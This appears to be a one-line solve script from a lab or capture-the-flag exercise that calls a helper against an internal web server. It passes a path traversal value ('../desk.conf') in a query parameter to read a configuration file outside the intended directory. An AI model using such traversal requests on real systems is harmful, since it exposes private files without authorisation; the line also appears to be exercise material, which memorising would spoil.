python3 "$(dirname "$0")/ask.py" 'http://10.40.1.10/bulletin?name=../desk.conf' | tail -n 1
